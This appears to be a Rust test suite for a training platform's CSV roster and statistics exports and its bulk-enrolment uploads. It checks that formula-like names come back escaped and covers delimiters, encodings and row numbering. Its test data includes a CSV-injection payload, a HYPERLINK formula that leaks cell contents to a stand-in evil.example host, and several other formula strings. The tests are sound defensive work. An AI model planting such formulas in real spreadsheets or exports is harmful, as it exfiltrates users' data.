//! Black-box tests of the CSV that spreadsheets exchange with the API: exports (roster and
//! statistics) that open right in a European Excel and plant no formula, and uploads as
//! browsers and Excel send them, with the spreadsheet's line numbers in the answer.

use chrono::{DateTime, Utc};
use help_lms_tests::{Nti, Res, TestApp, institution, spawn_with_catalogue};
use reqwest::Method;
use serde_json::json;
use uuid::Uuid;

const COURSE: &str = "international-cooperation-pre-trial-detention";
const BOM: &[u8] = b"\xEF\xBB\xBF";

async fn setup() -> (TestApp, String, Nti) {
    let app = spawn_with_catalogue().await;
    let admin = app.admin_token().await;
    let nti = institution(&app, &admin, "Institutul Național al Magistraturii", "RO").await;
    (app, admin, nti)
}

async fn cohort_named(app: &TestApp, nti: &Nti, name: &str) -> Uuid {
    let res = app
        .post(
            "/api/v1/cohorts",
            &json!({"course": COURSE, "language": "fr", "name": name, "starts_on": "2027-01-11",
                "ends_on": "2027-04-09", "capacity": 50, "tutor_ids": [nti.tutor_id]}),
            Some(&nti.manager),
        )
        .await;
    assert_eq!(res.status, 201, "{}", res.text);
    res.body["id"].as_str().unwrap().parse().unwrap()
}

/// Posts `body` to the cohort's bulk enrolment with this content type.
async fn upload(
    app: &TestApp,
    token: &str,
    cohort: Uuid,
    content_type: &str,
    body: Vec<u8>,
) -> Res {
    app.send(
        app.request(
            Method::POST,
            &format!("/api/v1/cohorts/{cohort}/enrolments"),
            Some(token),
        )
        .header("content-type", content_type)
        .body(body),
    )
    .await
}

/// A form as a browser sends a file input: one part, a file name, the type Windows gives .csv.
fn form_with_file(csv: &str) -> (String, Vec<u8>) {
    let boundary = "----helpFormBoundary7MA4YWxkTrZu0gW";
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"cohort.csv\"\r\n\
         Content-Type: application/vnd.ms-excel\r\n\r\n{csv}\r\n--{boundary}--\r\n"
    );
    (
        format!("multipart/form-data; boundary={boundary}"),
        body.into_bytes(),
    )
}

/// A CSV answer: its status, headers and raw bytes.
struct Download {
    status: u16,
    headers: reqwest::header::HeaderMap,
    bytes: Vec<u8>,
}

impl Download {
    fn header(&self, name: &str) -> &str {
        self.headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_else(|| panic!("no {name} header"))
    }

    fn text(&self) -> &str {
        std::str::from_utf8(&self.bytes).expect("UTF-8")
    }

    /// The records, header first, read with this delimiter as a spreadsheet would.
    fn records(&self, delimiter: u8) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(false)
            .from_reader(self.bytes.as_slice())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    /// The cells of one column, by its name in the header.
    fn column(&self, delimiter: u8, name: &str) -> Vec<String> {
        let records = self.records(delimiter);
        let at = records[0]
            .iter()
            .position(|h| h.trim_start_matches('\u{feff}') == name)
            .unwrap_or_else(|| panic!("no column {name} in {:?}", records[0]));
        records[1..].iter().map(|r| r[at].clone()).collect()
    }
}

async fn download(app: &TestApp, token: &str, path: &str) -> Download {
    let res = app
        .request(Method::GET, path, Some(token))
        .header("accept", "text/csv")
        .send()
        .await
        .unwrap();
    Download {
        status: res.status().as_u16(),
        headers: res.headers().clone(),
        bytes: res.bytes().await.unwrap().to_vec(),
    }
}

async fn roster_csv(app: &TestApp, token: &str, cohort: Uuid, query: &str) -> Download {
    let d = download(
        app,
        token,
        &format!("/api/v1/cohorts/{cohort}/enrolments{query}"),
    )
    .await;
    assert_eq!(d.status, 200, "{}", String::from_utf8_lossy(&d.bytes));
    d
}

async fn roster_total(app: &TestApp, token: &str, cohort: Uuid) -> u64 {
    let res = app
        .get(&format!("/api/v1/cohorts/{cohort}/enrolments"), Some(token))
        .await;
    assert_eq!(res.status, 200, "{}", res.text);
    res.body["total"].as_u64().unwrap()
}

fn rows(res: &Res) -> Vec<(u64, String)> {
    assert_eq!(res.status, 200, "{}", res.text);
    res.body["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["row"].as_u64().unwrap(),
                r["result"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Results\")";

/// Enrols two learners who named themselves as formulas, and one who did not.
async fn enrol_formula_learners(app: &TestApp, nti: &Nti, cohort: Uuid) {
    let res = app
        .post(
            &format!("/api/v1/cohorts/{cohort}/enrolments"),
            &json!([
                {"email": "evil@x.example", "given_name": HYPERLINK, "family_name": "Doe",
                    "profession": "judge", "country": "RO"},
                {"email": "minus@x.example", "given_name": "-2+3", "family_name": "Pop",
                    "profession": "judge", "country": "RO"},
                {"email": "ana@x.example", "given_name": "Ana-Maria", "family_name": "Ionescu",
                    "profession": "judge", "country": "RO"}
            ]),
            Some(&nti.manager),
        )
        .await;
    assert_eq!(res.body["summary"]["created"], 3, "{}", res.text);
}

#[tokio::test]
async fn a_formula_in_a_learners_name_comes_back_prefixed_and_quoted_in_the_roster_csv() {
    let (app, _admin, nti) = setup().await;
    let cohort = cohort_named(&app, &nti, "Judecători 2027").await;
    enrol_formula_learners(&app, &nti, cohort).await;
    let d = roster_csv(&app, &nti.tutor, cohort, "").await;
    let names = d.column(b',', "name");
    assert_eq!(
        names,
        [
            format!("'{HYPERLINK} Doe"),
            "'-2+3 Pop".to_owned(),
            "Ana-Maria Ionescu".to_owned(),
        ]
    );
    // Quoted in the file itself, not only where a quote or comma forces it.
    assert!(d.text().contains(",\"'-2+3 Pop\","), "{}", d.text());
    assert!(d.text().contains(",Ana-Maria Ionescu,"), "{}", d.text());
    // Figures the server writes are not text: the percent stays a bare number.
    assert_eq!(d.column(b',', "percent"), ["0", "0", "0"]);
}

#[tokio::test]
async fn a_formula_in_a_cohort_or_institution_name_comes_back_prefixed_in_the_statistics_csv() {
    let app = spawn_with_catalogue().await;
    let admin = app.admin_token().await;
    let nti = institution(&app, &admin, "@SUM(1+1)*cmd", "RO").await;
    let cohort = cohort_named(&app, &nti, "+Judecători=1").await;
    enrol_formula_learners(&app, &nti, cohort).await;
    let d = download(
        &app,
        &admin,
        "/api/v1/stats/completions?group_by=institution,cohort",
    )
    .await;
    assert_eq!(d.status, 200, "{}", String::from_utf8_lossy(&d.bytes));
    assert_eq!(d.column(b',', "institution_name"), ["'@SUM(1+1)*cmd"]);
    assert_eq!(d.column(b',', "cohort_name"), ["'+Judecători=1"]);
    assert_eq!(d.column(b',', "enrolled"), ["3"]);
    assert!(d.text().contains(",\"'@SUM(1+1)*cmd\","), "{}", d.text());
    assert!(d.text().contains(",\"'+Judecători=1\","), "{}", d.text());
}

#[tokio::test]
async fn a_semicolon_export_has_a_bom_and_reads_back_with_the_csv_crate() {
    let (app, admin, nti) = setup().await;
    let cohort = cohort_named(&app, &nti, "Judecători; Brașov").await;
    let res = app
        .post(
            &format!("/api/v1/cohorts/{cohort}/enrolments"),
            &json!([
                {"email": "stefan@x.example", "given_name": "Ștefan", "family_name": "Mărgineanu",
                    "profession": "judge", "country": "RO"},
                {"email": "ivan@x.example", "given_name": "Иван", "family_name": "Петров; Иванов",
                    "profession": "prosecutor", "country": "BG"}
            ]),
            Some(&nti.manager),
        )
        .await;
    assert_eq!(res.body["summary"]["created"], 2, "{}", res.text);

    let d = roster_csv(&app, &nti.manager, cohort, "?delimiter=semicolon").await;
    assert!(d.bytes.starts_with(BOM), "no BOM: {:?}", &d.bytes[..8]);
    assert_eq!(d.header("content-type"), "text/csv; charset=utf-8");
    let records = d.records(b';');
    assert_eq!(records.len(), 3);
    // csv strips the BOM, as Excel does: the first column is named as documented.
    assert_eq!(
        records[0][..4],
        ["enrolment_id", "user_id", "email", "name"]
    );
    assert_eq!(records[0].len(), 17);
    assert_eq!(
        records[1][2..6],
        ["stefan@x.example", "Ștefan Mărgineanu", "judge", "RO"]
    );
    assert_eq!(
        records[2][2..6],
        ["ivan@x.example", "Иван Петров; Иванов", "prosecutor", "BG"]
    );
    assert!(records.iter().all(|r| r.len() == 17));
    // Read with a comma, it is not the same table: the delimiter really changed.
    assert_eq!(d.records(b',')[0].len(), 1);

    // The statistics take the same parameter.
    let stats = download(
        &app,
        &admin,
        "/api/v1/stats/completions?group_by=country&delimiter=semicolon",
    )
    .await;
    assert_eq!(
        stats.status,
        200,
        "{}",
        String::from_utf8_lossy(&stats.bytes)
    );
    assert!(stats.bytes.starts_with(BOM));
    let records = stats.records(b';');
    assert_eq!(records[0][..3], ["country", "enrolled", "active"]);
    let mut by_country: Vec<(String, String)> = records[1..]
        .iter()
        .map(|r| (r[0].clone(), r[1].clone()))
        .collect();
    by_country.sort();
    assert_eq!(
        by_country,
        [
            ("BG".to_owned(), "1".to_owned()),
            ("RO".to_owned(), "1".to_owned())
        ]
    );

    // Anything else is refused, naming the parameter, on both.
    for path in [
        format!("/api/v1/cohorts/{cohort}/enrolments?delimiter=tab"),
        "/api/v1/stats/completions?delimiter=pipe".to_owned(),
    ] {
        let res = app
            .send(
                app.request(Method::GET, &path, Some(&admin))
                    .header("accept", "text/csv"),
            )
            .await;
        res.assert_problem(422, "validation_failed");
        assert_eq!(res.problem_fields(), ["delimiter"], "{path}");
    }
}

#[tokio::test]
async fn csv_answers_are_attachments_named_after_what_they_hold_with_a_utf8_file_name() {
    let (app, admin, nti) = setup().await;
    let cohort = cohort_named(&app, &nti, "Съдии и прокурори 2027").await;
    let before = Utc::now().date_naive().format("%Y-%m-%d").to_string();
    let d = roster_csv(&app, &nti.manager, cohort, "").await;
    let after = Utc::now().date_naive().format("%Y-%m-%d").to_string();
    let cd = d.header("content-disposition");
    let named = |day: &str| {
        let utf8 = "roster-Съдии-и-прокурори-2027-".to_owned() + day + ".csv";
        let encoded: String = utf8
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || b"-.".contains(&b) {
                    char::from(b).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect();
        format!("attachment; filename=\"roster-2027-{day}.csv\"; filename*=UTF-8''{encoded}")
    };
    assert!(cd == named(&before) || cd == named(&after), "{cd}");

    let stats = download(
        &app,
        &admin,
        &format!("/api/v1/stats/completions?group_by=country,month&course={COURSE}"),
    )
    .await;
    let cd = stats.header("content-disposition");
    assert!(
        cd == format!(
            "attachment; filename=\"completions-{COURSE}-by-country-month-{before}.csv\""
        ) || cd.ends_with(&format!("-by-country-month-{after}.csv\"")),
        "{cd}"
    );
    assert_eq!(stats.header("content-type"), "text/csv; charset=utf-8");
}

#[tokio::test]
async fn roster_timestamps_are_utc_to_the_second() {
    let (app, _admin, nti) = setup().await;
    let cohort = cohort_named(&app, &nti, "Juges 2027").await;
    enrol_formula_learners(&app, &nti, cohort).await;
    let d = roster_csv(&app, &nti.manager, cohort, "").await;
    let enrolled = d.column(b',', "enrolled_at");
    assert_eq!(enrolled.len(), 3);
    for t in &enrolled {
        // 2026-12-01T17:05:09Z: twenty characters, Z for UTC, no fraction.
        assert_eq!(t.len(), 20, "{t}");
        assert!(t.ends_with('Z') && !t.contains('.'), "{t}");
        let at: DateTime<Utc> = t.parse().unwrap();
        assert!((Utc::now() - at).num_minutes() < 5, "{t}");
    }
    assert!(d.column(b',', "completed_at").iter().all(String::is_empty));
}

const HEADER: &str = "email,given name,family name,profession,country\r\n";

#[tokio::test]
async fn a_browser_form_upload_enrols_the_file() {
    let (app, _admin, nti) = setup().await;
    let cohort = cohort_named(&app, &nti, "Juges 2027").await;
    let (content_type, body) = form_with_file(&format!(
        "{HEADER}claire@x.example,Claire,Martin,judge,FR\r\npaul@x.example,Paul,Durand,lawyer,FR\r\n"
    ));
    let res = upload(&app, &nti.manager, cohort, &content_type, body).await;
    assert_eq!(rows(&res), [(2, "created".into()), (3, "created".into())]);
    assert_eq!(roster_total(&app, &nti.manager, cohort).await, 2);

    // A form without the file, or with a field that would change the run, is refused and
    // changes nothing.
    let boundary = "b0undary";
    let field_only = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\n\
         {HEADER}x@x.example,X,Y,judge,FR\r\n\r\n--{boundary}\r\n\
         Content-Disposition: form-data; name=\"dry_run\"\r\n\r\ntrue\r\n--{boundary}--\r\n"
    );
    let res = upload(
        &app,
        &nti.manager,
        cohort,
        &format!("multipart/form-data; boundary={boundary}"),
        field_only.into_bytes(),
    )
    .await;
    res.assert_problem(422, "validation_failed");
    assert_eq!(res.problem_fields(), ["dry_run"]);
    let empty = upload(
        &app,
        &nti.manager,
        cohort,
        &format!("multipart/form-data; boundary={boundary}"),
        format!("--{boundary}--\r\n").into_bytes(),
    )
    .await;
    empty.assert_problem(422, "validation_failed");
    assert_eq!(empty.problem_fields(), ["file"]);
    assert_eq!(roster_total(&app, &nti.manager, cohort).await, 2);
}

#[tokio::test]
async fn a_csv_sent_as_application_vnd_ms_excel_enrols() {
    let (app, _admin, nti) = setup().await;
    let cohort = cohort_named(&app, &nti, "Juges 2027").await;
    let csv = format!("{HEADER}claire@x.example,Claire,Martin,judge,FR\r\n");
    let res = upload(
        &app,
        &nti.manager,
        cohort,
        "application/vnd.ms-excel",
        csv.into_bytes(),
    )
    .await;
    assert_eq!(rows(&res), [(2, "created".into())]);
    assert_eq!(roster_total(&app, &nti.manager, cohort).await, 1);
}

#[tokio::test]
async fn a_windows_1250_file_is_refused_with_how_to_save_it_and_changes_nothing() {
    let (app, _admin, nti) = setup().await;
    let cohort = cohort_named(&app, &nti, "Judecători 2027").await;
    // What Excel's "CSV (Comma delimited)" writes on a Romanian Windows: Ştefănescu in
    // Windows-1250, on the file's third line.
    let mut body =
        format!("{HEADER}ana@x.example,Ana,Pop,judge,RO\r\nstefan@x.example,").into_bytes();
    body.extend_from_slice(b"\xAAtefan,\xAAtef\xE3nescu,judge,RO\r\n");
    for content_type in ["text/csv", "application/vnd.ms-excel"] {
        let res = upload(&app, &nti.manager, cohort, content_type, body.clone()).await;
        res.assert_problem(400, "invalid_encoding");
        let detail = res.body["detail"].as_str().unwrap();
        assert!(detail.contains("CSV UTF-8"), "{detail}");
        assert!(detail.contains("line 3"), "{detail}");
    }
    assert_eq!(roster_total(&app, &nti.manager, cohort).await, 0);
    let c = app
        .get(&format!("/api/v1/cohorts/{cohort}"), Some(&nti.manager))
        .await;
    assert_eq!(c.body["enrolled"], 0, "{}", c.text);
}

#[tokio::test]
async fn a_semicolon_file_with_a_bom_from_european_excel_enrols_row_by_row() {
    let (app, _admin, nti) = setup().await;
    let cohort = cohort_named(&app, &nti, "Judecători 2027").await;
    let csv = "\u{feff}E-mail;Given name;Family name;Profession;Country\r\n\
               ana@x.example;Ana;Pop;judge;RO\r\n\
               ioana@x.example;Ioana;Ștefănescu;prosecutor;RO\r\n\
               not-an-email;X;Y;judge;RO\r\n";
    let res = upload(
        &app,
        &nti.manager,
        cohort,
        "text/csv; charset=utf-8",
        csv.as_bytes().to_vec(),
    )
    .await;
    assert_eq!(
        rows(&res),
        [
            (2, "created".into()),
            (3, "created".into()),
            (4, "rejected".into())
        ]
    );
    assert_eq!(res.body["rows"][1]["email"], "ioana@x.example");
    let d = roster_csv(&app, &nti.manager, cohort, "").await;
    assert_eq!(d.column(b',', "name"), ["Ana Pop", "Ioana Ștefănescu"]);
}

#[tokio::test]
async fn row_numbers_are_spreadsheet_lines_for_csv_and_list_places_for_json() {
    let (app, _admin, nti) = setup().await;
    let cohort = cohort_named(&app, &nti, "Juges 2027").await;
    // Line 1 the header, line 4 an empty row, line 5 a row with a line break inside a
    // quoted cell (one row in a spreadsheet), line 6 a bad row.
    let csv = format!(
        "{HEADER}a@x.example,A,A,judge,FR\r\nb@x.example,B,B,judge,FR\r\n\r\n\
         c@x.example,\"C\nC\",C,judge,FR\r\nd@x.example,D,D,astronaut,FR\r\n"
    );
    let res = upload(&app, &nti.manager, cohort, "text/csv", csv.into_bytes()).await;
    assert_eq!(
        rows(&res),
        [
            (2, "created".into()),
            (3, "created".into()),
            (5, "rejected".into()),
            (6, "rejected".into())
        ],
        "{}",
        res.text
    );
    assert_eq!(res.body["rows"][2]["reason"], "invalid_name");
    assert_eq!(res.body["rows"][3]["reason"], "invalid_profession");
    let json = app
        .post(
            &format!("/api/v1/cohorts/{cohort}/enrolments"),
            &json!([
                {"email": "e@x.example", "given_name": "E", "family_name": "E",
                    "profession": "judge", "country": "FR"},
                {"email": "bad", "given_name": "F", "family_name": "F",
                    "profession": "judge", "country": "FR"}
            ]),
            Some(&nti.manager),
        )
        .await;
    assert_eq!(rows(&json), [(1, "created".into()), (2, "rejected".into())]);
}
